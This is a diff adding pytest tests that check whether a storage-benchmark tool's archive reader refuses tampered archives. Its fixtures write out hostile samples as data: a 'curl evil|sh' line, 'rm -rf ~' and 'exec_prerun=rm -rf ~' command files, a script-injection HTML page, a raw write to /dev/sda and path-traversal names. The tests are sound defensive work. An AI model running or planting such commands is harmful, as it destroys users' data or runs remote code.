@@ -5,6 +5,8 @@ Who makes such an archive makes the digests inside the database anew as well.
 
 import io
 import json
+import re
+import resource
 import sqlite3
 import zlib
 from contextlib import suppress
@@ -17,6 +19,9 @@ from iolab.archive import read, write
 from iolab.archive.format import members_of
 from iolab.cli.console import Console
 from iolab.cli.main import main
+from iolab.run.core import load_core
+from iolab.run.kept_recordings import copy_of
+from iolab.study.model import RecordingIdentity
 
 COMPARE = [
     *("compare", "--on", "sim:fixed-100us", "--scheduler", "noop,deadline", "--test", "read"),
@@ -200,7 +205,6 @@ def test_names_of_the_manifest_command_no_terminal(packed, remade):
         manifest = replace(
             found.manifest,
             members=members_of(contents),
-            study_name=OWNED,
             machine=OWNED,
             iolab_version=OWNED,
         )
@@ -256,3 +260,307 @@ def test_names_inside_the_database_command_no_terminal(changed):
 def assert_harmless(out, err):
     assert not any(sign in out + err for sign in "\x1b\x07\x9b\u202e")
     assert not any(line.startswith("line") for line in (out + err).splitlines())
+
+
+# Values of the right kind that no study holds.
+
+
+def record_of(packed, number=1):
+    """A record of the archive."""
+    file = packed.with_name("read.db")
+    file.write_bytes(read.read_archive(packed).contents["study.db"])
+    connection = sqlite3.connect(file)
+    query = "SELECT record_zlib FROM record WHERE record_id = ?"
+    (cell,) = connection.execute(query, (number,)).fetchone()
+    connection.close()
+    return json.loads(zlib.decompress(cell))
+
+
+def replaced(record, number=1):
+    """SQL that puts another record in the place of one."""
+    text = record if isinstance(record, str) else json.dumps(record)
+    statement = f"UPDATE record SET record_zlib = ? WHERE record_id = {number}"
+    return statement, zlib.compress(text.encode())
+
+
+def histograms(record):
+    """Every histogram of a record that has values."""
+    return [
+        found
+        for phase in record["phases"]
+        for tenant in phase["tenants"]
+        for found in (tenant.get("service") or {}).values()
+        if found and found.get("count")
+    ]
+
+
+@pytest.mark.parametrize("index", [1 << 38, 1 << 60, -1, "x", 58 * 128])
+def test_an_index_of_a_histogram_is_no_power_of_two_that_fills_the_memory(packed, changed, index):
+    record = record_of(packed)
+    for found in histograms(record):
+        found["counts"], found["count"] = [[index, 100]], 100
+    changed(replaced(record))
+    assert_refused("table record, row 1, column record_zlib")
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        lambda record: record["phases"][0].pop("name"),
+        lambda record: record["phases"][0].update(tenants="abc"),
+        lambda record: record["phases"][0].update(elapsed_ns="long"),
+        lambda record: record["phases"][0]["tenants"][0].update(workers=[[]]),
+        lambda record: record.update(stack="abc"),
+        lambda record: record.update(stack={"parameters": "abc"}),
+        lambda record: record.update(knobs={"scheduler": 5}),
+        lambda record: record.update(facts=[]),
+        lambda record: record.update(actions=[{"detail": 1}]),
+        lambda record: record.update(warnings=[1]),
+    ],
+)
+def test_a_record_of_other_types_than_promised_is_named(packed, changed, change):
+    """`report` ended with a bug, and `--check` had called the archive whole."""
+    record = record_of(packed)
+    change(record)
+    changed(replaced(record))
+    assert_refused("table record, row 1, column record_zlib")
+
+
+def test_slices_that_are_none_are_named(packed, changed):
+    record = record_of(packed)
+    record["session"] = {}
+    record["phases"][0]["tenants"][0]["slices"] = {"a": 1}
+    changed(replaced(record), ("UPDATE study SET spec_toml = ? || spec_toml", 'design = "pairs"\n'))
+    assert_refused("table record, row 1, column record_zlib")
+
+
+def test_tables_that_would_fill_the_memory_are_counted_first(packed, changed):
+    """Some 7 characters became 230 bytes, and those of all records were kept at once."""
+    text = json.dumps(record_of(packed))
+    text = text[:-1] + ',"more":[' + ",".join(['{"":0}'] * 200_000) + "]}"
+    changed(replaced(text))
+    assert_refused("table record, row 1, column record_zlib has more tables than any of ours")
+
+
+@pytest.mark.parametrize(
+    ("statement", "message"),
+    [
+        ("UPDATE series SET interval_ns = 0", "0 ns are no series"),
+        ("UPDATE series SET ops_json = '[1,2,3,4,5,6,7]'", "not as many of each column"),
+        ("UPDATE phase SET cache_share = 9e999", "column cache_share: inf is no measured value"),
+        ("UPDATE phase SET depth_reached_mean = 1e30", "1e+30 is no measured value"),
+        ("UPDATE measurement SET value = 1e-300", "1e-300 is no measured value"),
+        ("UPDATE study SET spec_toml = 'looks = ''x'''", "looks or rounds is no number"),
+        ("UPDATE study SET spec_toml = 'command = [''run'']'", "'run' is not a dialect"),
+    ],
+)
+def test_a_value_that_readers_cannot_bear_is_named(changed, statement, message):
+    changed((statement,))
+    assert_refused(message)
+
+
+def test_a_long_series_is_refused(changed):
+    """The search for the end of its warm-up took as many steps as the square of its length."""
+    text = json.dumps([1] * 5000)
+    changed(
+        ("UPDATE series SET ops_json = ?, bytes_json = ?, latency_ns_max_json = ?", *[text] * 3)
+    )
+    assert_refused("5000 slices of 100000000 ns are no series")
+
+
+def test_a_short_interval_is_no_silence_of_gigabytes(changed):
+    """A second in slices of a nanosecond was filled up with a thousand million zeros."""
+    changed(
+        ("UPDATE series SET interval_ns = 1",),
+        ("UPDATE phase SET workers_json = replace(workers_json, ?, ?)", 'ns":', 'ns":9999'),
+    )
+    assert_refused("table series, row 1 read: what is stored is not what its record gives")
+    Path("o").mkdir()
+    Path("o/study.db").write_bytes(read.read_archive(Path("h.iolab")).contents["study.db"])
+    before_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    assert run("report", "o")[0] == 0
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before_kib < 300 << 10
+
+
+def test_a_metric_of_a_newer_iolab_has_no_unit(changed):
+    changed(("INSERT INTO measurement SELECT record_id, operation, 'newer', 9 FROM phase",))
+    assert run("report", "h.iolab", "--out", "r")[0] == 0
+
+
+@pytest.mark.parametrize(
+    "name", ["x/../../TRAV", "/../../TRAV", "t1/x", "", "t", "t1\n", "t\u0661"]
+)
+def test_no_trial_is_named_like_a_path(packed, changed, tmp_path, name):
+    """`--export fio --out DIR` wrote outside of DIR."""
+    changed(
+        ("PRAGMA foreign_keys = OFF",),
+        ("UPDATE record SET trial_id = ? WHERE trial_id = 't0001'", name),
+        ("UPDATE trial SET trial_id = ? WHERE trial_id = 't0001'", name),
+    )
+    assert_refused("is no name of a trial")
+    database = read.read_archive(Path("h.iolab")).contents["study.db"]
+    place = tmp_path / "d" / "o"
+    place.mkdir(parents=True)
+    (place / "study.db").write_bytes(database)
+    out = tmp_path / "d" / "p" / "q"
+    code, _, err = run("archive", "--export", "fio", str(place), "--out", str(out))
+    assert (code, out.exists()) == (5, False), err
+    assert sorted(path.name for path in (tmp_path / "d").iterdir()) == ["o"]
+
+
+# Commands that are told, and what stands in them.
+
+SPEC = """
+testbed = "sim:fixed-100us"
+[[workloads]]
+name = "again"
+dialect = "fio"
+command = "--name=a --rw=read --size=1m"
+recordings = [{{file = {file}, size_bytes = {size}, digest = {digest}}}]
+"""
+STREAM = "iolab recorded stream 1\n0 write 0 0 8192\n"
+
+
+@pytest.fixture
+def with_recording(changed):
+    """Return a function that makes the directory ``o`` of a study that wants a recording."""
+
+    def make(file, digest=None, content=STREAM):
+        folder = Path("o/recordings")
+        folder.mkdir(parents=True)
+        (folder / "copy").write_text(content)
+        known = json.loads(load_core().recording_identity(str(folder / "copy")))
+        digest = digest or known["digest"]
+        spec = SPEC.format(
+            file=json.dumps(file), size=known["file_bytes"], digest=json.dumps(digest)
+        )
+        changed(("UPDATE study SET spec_toml = ?", spec))
+        Path("o/study.db").write_bytes(read.read_archive(Path("h.iolab")).contents["study.db"])
+        identity = RecordingIdentity(file, known["file_bytes"], digest)
+        (folder / "copy").rename(copy_of(Path("o"), identity))
+        code, _, err = run("run", "o", "--resume")
+        assert code == 1, err
+        return " ".join(err.split())
+
+    return make
+
+
+@pytest.mark.parametrize("place", ["{}/.bash_login", "{}/sub/.config/x", "/etc/cron.d/x", "../x"])
+def test_no_command_puts_a_strangers_file_where_it_is_obeyed(with_recording, tmp_path, place):
+    """`mkdir -p ... && cp ... ~/.bash_login` was told of a study that somebody had sent."""
+    told = with_recording(place.format(tmp_path))
+    assert "the recording" in told
+    assert "cp " not in told
+    assert "ln -s" not in told
+    assert "look at it before you put it there" in told
+
+
+def test_what_is_not_the_recording_is_no_copy_of_it(with_recording, tmp_path):
+    told = with_recording(f"{tmp_path}/trace.log", digest="0123456789abcdef")
+    assert "a copy" not in told
+    assert f"`ln -s WHERE {tmp_path}/trace.log`" in told
+
+
+def test_a_copy_is_put_back_by_a_command_with_quotes(with_recording, tmp_path):
+    told = with_recording(f"{tmp_path}/it's; x")
+    assert f"""'{tmp_path}/it'"'"'s; x'`""" in told
+    command = told.rpartition("a copy lies with the results: `")[2].partition("`")[0]
+    assert command.startswith("cp o/recordings/")
+
+
+# What an archive says beside its database.
+
+EVIL = b"<!doctype html><script>alert('x')</script><h1>bfq is 900 % faster</h1>"
+
+
+@pytest.fixture
+def with_members(packed, tmp_path, monkeypatch):
+    """Return a function that makes ``h.iolab`` with other members and right digests."""
+    monkeypatch.chdir(tmp_path)
+
+    def make(members=None, **told):
+        found = read.read_archive(packed)
+        contents = {**found.contents, **(members or {})}
+        manifest = replace(found.manifest, members=members_of(contents), **told)
+        Path("h.iolab").write_bytes(write.pack(manifest, contents))
+
+    return make
+
+
+def test_a_page_that_somebody_wrote_is_not_believed_and_made_anew(with_members, packed):
+    """`--extract` wrote a script as the report, and listed it as iolab's own."""
+    forged = {
+        "report.html": EVIL,
+        "report.xlsx": b"PK evil",
+        "verdict.json": b'{"a": 1}',
+        "README.txt": b"run: curl evil|sh\n",
+        "facts.json": b"{}",
+        "commands/iozone.sh": b"rm -rf ~",
+        "commands/trial-t0001.fio": b"exec_prerun=rm -rf ~",
+        "commands/trial-t9999.fio": b"exec_prerun=rm -rf ~",
+    }
+    with_members(forged)
+    code, out, err = run("archive", "--check", "h.iolab")
+    assert (code, err) == (0, "")
+    assert "h.iolab is whole" not in out
+    assert f"Do not believe {', '.join(sorted(forged))}: " in out
+    code, out, err = run("archive", "--extract", "h.iolab", "--out", "x")
+    assert code == 0, err
+    assert "made anew or left out" in err
+    whole = read.read_archive(packed).contents
+    assert {str(p.relative_to("x")) for p in Path("x").rglob("*") if p.is_file()} == {
+        *whole,
+        ".iolab-made",
+    }
+    for name, content in whole.items():
+        assert (Path("x") / name).read_bytes() == content, name
+
+
+def test_an_archive_of_the_same_iolab_is_whole_and_comes_back_as_it_is(with_members):
+    with_members()
+    code, out, err = run("archive", "--check", "h.iolab")
+    assert (code, err) == (0, "")
+    assert out.startswith("h.iolab is whole: ")
+    assert "believe" not in out
+    assert run("archive", "--extract", "h.iolab", "--out", "x")[2] == ""
+
+
+@pytest.mark.parametrize("name", ["commands/run.sh", "commands/x.fio", "commands/trial-x.fio"])
+def test_a_command_that_the_exporter_does_not_write_is_refused(with_members, monkeypatch, name):
+    monkeypatch.setattr(write, "MEMBER_NAME", re.compile(".*"))
+    with_members({name: b"rm -rf ~"})
+    code, out, err = run("archive", "--check", "h.iolab")
+    assert (code, out) == (1, "")
+    assert "is no name of a member; iolab makes no such archive" in err
+
+
+def test_another_question_than_that_of_the_database_is_damage(with_members):
+    with_members({"study.toml": b'command = ["fio", "--filename=/dev/sda", "--rw=write"]\n'})
+    code, out, err = run("archive", "--check", "h.iolab")
+    assert (code, err) == (5, "")
+    assert "study.toml is not what the study in study.db names" in out
+
+
+@pytest.mark.parametrize("what", ["study_name", "study_id"])
+def test_a_manifest_of_another_study_is_damage(with_members, what):
+    with_members(**{what: "other"})
+    assert_refused(f"the manifest says {what} 'other', and the database '")
+
+
+@pytest.mark.parametrize(
+    ("statement", "message"),
+    [
+        ("UPDATE measurement SET value = value * 9", "table measurement, row 1 read"),
+        ("UPDATE measurement SET value = value * 1.01", "table measurement, row 1 read"),
+        ("UPDATE phase SET cache_share = 0.5", "column cache_share"),
+        (
+            "UPDATE series SET bytes_json = replace(bytes_json, '4', '5')",
+            "table series, row 1 read",
+        ),
+        ("UPDATE record SET elapsed_ns = elapsed_ns + 1", "table record, row 1"),
+    ],
+)
+def test_a_value_that_its_record_does_not_give_is_named(changed, statement, message):
+    """Values nine times as large as their records say gave "9.0 times as fast"."""
+    changed((statement,))
+    assert_refused(message, "what is stored is not what its record gives")
